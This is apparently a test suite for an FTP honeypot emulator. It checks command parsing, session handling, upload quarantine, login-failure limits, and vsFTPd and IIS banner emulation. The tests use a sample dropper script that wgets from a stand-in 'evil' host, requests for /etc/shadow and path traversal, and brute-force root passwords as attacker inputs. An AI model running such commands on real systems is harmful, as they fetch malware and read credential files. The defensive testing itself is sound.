import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { makeTestContext, type TestContext } from '../../runtime/test-context.js';
import { rawConnect, type RawClient } from '../../runtime/test-client.js';
import type { RunningService } from '../../runtime/types.js';
import { FTP_LIMITS, bannerLine, startFtp } from './ftp.js';
import { MAX_FTP_LINE, ftpListing, ftpResolve, ftpTree, parseFtpCommand, pasvReply } from './ftp-commands.js';

describe('ftp command parsing', () => {
  it('parses verbs and arguments', () => {
    expect(parseFtpCommand('user Anonymous')).toEqual({ verb: 'USER', arg: 'Anonymous' });
    expect(parseFtpCommand('PASS  a b ')).toEqual({ verb: 'PASS', arg: 'a b' });
    expect(parseFtpCommand('QUIT')).toEqual({ verb: 'QUIT', arg: '' });
    expect(parseFtpCommand('\x16\x03\x01garbage').verb).toBe('');
    expect(parseFtpCommand('TOOLONGVERB x').verb).toBe('');
  });
  it('fuzz: arbitrary bytes give a bounded verb and argument', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 3000 }), (bytes) => {
        const c = parseFtpCommand(Buffer.from(bytes));
        expect(c.verb).toMatch(/^[A-Z]{0,8}$/);
        expect(c.arg.length).toBeLessThanOrEqual(MAX_FTP_LINE);
      }),
    );
  });
  it('resolves paths inside the root and formats listings and PASV', () => {
    expect(ftpResolve('/pub', '../../../etc')).toBe('/etc');
    expect(ftpResolve('/', 'pub/')).toBe('/pub');
    const tree = ftpTree('h');
    expect(ftpListing(tree, '/', false)).toBe('README.txt\r\nincoming\r\npub\r\n');
    expect(ftpListing(tree, '/', true)).toMatch(/^drwxrwxrwx +2 ftp +ftp +4096 Jan 15 09:12 incoming$/m);
    expect(ftpListing(tree, '/nope', true)).toBeUndefined();
    expect(pasvReply('::ffff:10.0.0.5', 50000)).toBe('227 Entering Passive Mode (10,0,0,5,195,80).');
    expect(pasvReply('fe80::1', 1)).toBeUndefined();
    expect(bannerLine(undefined)).toBe('220 (vsFTPd 3.0.5)');
    expect(bannerLine('ProFTPD 1.3.5 Server')).toBe('220 ProFTPD 1.3.5 Server');
  });
});

async function pasv(c: RawClient): Promise<net.Socket> {
  c.send('PASV\r\n');
  const line = await c.expect(/227 .*\r\n/);
  const m = /\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)/.exec(line)!;
  expect(m.slice(1, 5).join('.')).toBe('127.0.0.1');
  const port = Number(m[5]) * 256 + Number(m[6]);
  const s = net.connect(port, '127.0.0.1');
  await new Promise<void>((r) => s.once('connect', () => r()));
  return s;
}

function readAll(s: net.Socket): Promise<string> {
  return new Promise((resolve) => {
    let d = '';
    s.on('data', (b: Buffer) => (d += b.toString()));
    s.on('close', () => resolve(d));
  });
}

describe('ftp honeypot', () => {
  let t: TestContext;
  let svc: RunningService;
  let port: number;
  beforeAll(async () => {
    t = makeTestContext('ftp', { banner: '220 (vsFTPd 2.3.4)' });
    svc = await startFtp(t.ctx, { ...FTP_LIMITS, maxUploadBytes: 4096, maxLoginFailures: 2 });
    port = svc.ports[0]!;
  });
  afterAll(async () => {
    await svc.close();
    t.cleanup();
  });

  it('anonymous session: banner, login, SYST, PWD, CWD, TYPE, LIST, RETR, STOR, QUIT', async () => {
    const c = await rawConnect(port);
    expect(await c.expect('\r\n')).toBe('220 (vsFTPd 2.3.4)\r\n');
    c.send('LIST\r\n');
    await c.expect('530 Please login with USER and PASS.\r\n');
    c.send('USER anonymous\r\n');
    await c.expect('331 ');
    c.send('PASS guest@example.com\r\n');
    await c.expect('230 Login successful.\r\n');
    c.send('SYST\r\nPWD\r\nTYPE I\r\n');
    await c.expect('215 UNIX Type: L8\r\n257 "/" is the current directory\r\n200 Switching to Binary mode.\r\n');

    let data = await pasv(c);
    c.send('LIST -la\r\n');
    const listing = await readAll(data);
    await c.expect('150 Here comes the directory listing.\r\n226 Directory send OK.\r\n');
    expect(listing).toMatch(/^drwxr-xr-x +2 ftp +ftp +4096 Jan 15 09:12 pub\r$/m);

    c.send('CWD pub\r\nPWD\r\nCWD /nope\r\n');
    await c.expect('250 Directory successfully changed.\r\n257 "/pub" is the current directory\r\n550 Failed to change directory.\r\n');
    data = await pasv(c);
    c.send('NLST\r\n');
    expect(await readAll(data)).toBe('backup.cfg\r\nfirmware-notes.txt\r\n');
    await c.expect('226 ');

    data = await pasv(c);
    c.send('RETR backup.cfg\r\n');
    expect(await readAll(data)).toContain('user=svc_backup');
    await c.expect('226 Transfer complete.\r\n');
    c.send('RETR /etc/shadow\r\n');
    await c.expect('550 Failed to open file.\r\n');

    data = await pasv(c);
    c.send('STOR /incoming/x.sh\r\n');
    await c.expect('150 Ok to send data.\r\n');
    const payload = Buffer.from('#!/bin/sh\nwget http://evil/x\n');
    data.end(payload);
    await c.expect('226 Transfer complete.\r\n');

    c.send('EPSV\r\n');
    await c.expect(/229 Entering Extended Passive Mode \(\|\|\|\d+\|\)\r\n/);
    c.send('PORT 10,0,0,1,4,1\r\nXYZZY\r\nQUIT\r\n');
    await c.expect('500 Illegal PORT command.\r\n502 Command not implemented.\r\n221 Goodbye.\r\n');
    await c.closed;

    expect(await t.waitFor((e) => e.event === 'auth_attempt')).toMatchObject({ principal: 'anonymous', secret: 'guest@example.com', success: true, secret_kind: 'plaintext' });
    expect(await t.waitFor((e) => e.event === 'download_attempt' && e['found'] === true)).toMatchObject({ path: '/pub/backup.cfg' });
    const up = await t.waitFor((e) => e.event === 'upload_attempt');
    const sha = createHash('sha256').update(payload).digest('hex');
    expect(up).toMatchObject({ path: '/incoming/x.sh', bytes: payload.length, sha256: sha, truncated: false, stored: `${sha}.bin` });
    expect(readFileSync(join(t.ctx.quarantineDir, `${sha}.bin`)).equals(payload)).toBe(true);
    expect(await t.waitFor((e) => e.event === 'request')).toMatchObject({ request: 'active_mode' });
  });

  it('aborts uploads above the cap and keeps only the capped bytes', async () => {
    const c = await rawConnect(port);
    await c.expect('220 ');
    c.send('USER ftp\r\nPASS x\r\n');
    await c.expect('230 ');
    const data = await pasv(c);
    data.on('error', () => undefined);
    c.send('STOR big.bin\r\n');
    await c.expect('150 ');
    data.write(Buffer.alloc(10_000, 0x41));
    await c.expect('552 Requested file action aborted. Exceeded storage allocation.\r\n');
    const up = await t.waitFor((e) => e.event === 'upload_attempt' && e['path'] === '/big.bin');
    expect(up).toMatchObject({ bytes: 4096, truncated: true });
    expect(existsSync(join(t.ctx.quarantineDir, String(up['stored'])))).toBe(true);
    c.close();
  });

  it('records failed logins and closes after too many', async () => {
    const c = await rawConnect(port);
    await c.expect('220 ');
    c.send('USER root\r\nPASS toor\r\nUSER root\r\nPASS admin\r\n');
    await c.expect('530 Login incorrect.\r\n331 Please specify the password.\r\n530 Login incorrect.\r\n');
    await c.closed;
    expect(t.events.filter((e) => e.event === 'auth_attempt' && e.principal === 'root').map((e) => e.secret)).toEqual(['toor', 'admin']);
  });

  it('passive data connections only admit the control connection\'s peer', async () => {
    const c = await rawConnect(port);
    await c.expect('220 ');
    c.send('USER anonymous\r\nPASS x\r\nPASV\r\n');
    const line = await c.expect(/227 .*\r\n/);
    const m = /\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)/.exec(line)!;
    const dport = Number(m[5]) * 256 + Number(m[6]);
    // a thief from another address (127.0.0.2) is dropped ...
    const thief = net.connect({ port: dport, host: '127.0.0.1', localAddress: '127.0.0.2' });
    thief.on('error', () => undefined);
    const stolen = await new Promise<string>((resolve) => {
      let d = '';
      thief.on('data', (b: Buffer) => (d += b.toString()));
      thief.on('close', () => resolve(d));
    });
    expect(stolen).toBe('');
    // ... and the real client still gets its listing
    const data = net.connect(dport, '127.0.0.1');
    await new Promise<void>((r) => data.once('connect', () => r()));
    c.send('NLST\r\n');
    expect(await readAll(data)).toContain('README.txt');
    await c.expect('226 ');
    c.close();
  });

  it('survives garbage and overlong lines', async () => {
    const c = await rawConnect(port);
    await c.expect('220 ');
    c.send(Buffer.from([0x16, 0x03, 0x01, 0x00, 0xff, 0x0d, 0x0a]));
    await c.expect('500 ');
    c.send('A'.repeat(5000));
    await c.expect('500 Input line too long.\r\n');
    await c.closed;
    const c2 = await rawConnect(port);
    await c2.expect('220 ');
    c2.close();
  });
});

describe('ftp dialect of the banner: a Microsoft FTP Service answers as IIS', () => {
  let t: TestContext;
  let svc: RunningService;
  beforeAll(async () => {
    t = makeTestContext('ftp', { banner: 'Microsoft FTP Service' });
    svc = await startFtp(t.ctx);
  });
  afterAll(async () => {
    await svc.close();
    t.cleanup();
  });

  it('login, SYST, PWD, CWD, TYPE, unknown commands and FEAT as IIS 10 words them', async () => {
    const c = await rawConnect(svc.ports[0]!);
    await c.expect('220 Microsoft FTP Service\r\n');
    const say = async (line: string, until: RegExp | string) => {
      c.send(`${line}\r\n`);
      return c.expect(until);
    };
    expect(await say('LIST', /\r\n/)).toContain('530 Please login with USER and PASS.');
    expect(await say('USER administrator', /\r\n/)).toContain('331 Password required');
    expect(await say('PASS Winter2026!', /\r\n/)).toContain('530 User cannot log in.');
    expect(await say('FEAT', '211 END\r\n')).toContain('211-Extended features supported:');
    expect(await say('USER anonymous', /\r\n/)).toContain('331 Password required');
    expect(await say('PASS guest@', /\r\n/)).toContain('230 User logged in.');
    expect(await say('SYST', /\r\n/)).toContain('215 Windows_NT');
    expect(await say('PWD', /\r\n/)).toContain('257 "/" is current directory.');
    expect(await say('CWD /nope', /\r\n/)).toContain('550 The system cannot find the file specified. ');
    expect(await say('TYPE I', /\r\n/)).toContain('200 Type set to I.');
    expect(await say('XYZZY', /\r\n/)).toContain('502 Command not implemented.');
    expect(await say('DELE README.txt', /\r\n/)).toContain('550 Access is denied. ');
    expect(await say('QUIT', /\r\n/)).toContain('221 Goodbye.');
    c.close();
    expect(t.events.some((e) => e.event === 'auth_attempt' && e['principal'] === 'administrator' && e['success'] === false)).toBe(true);
  });
});
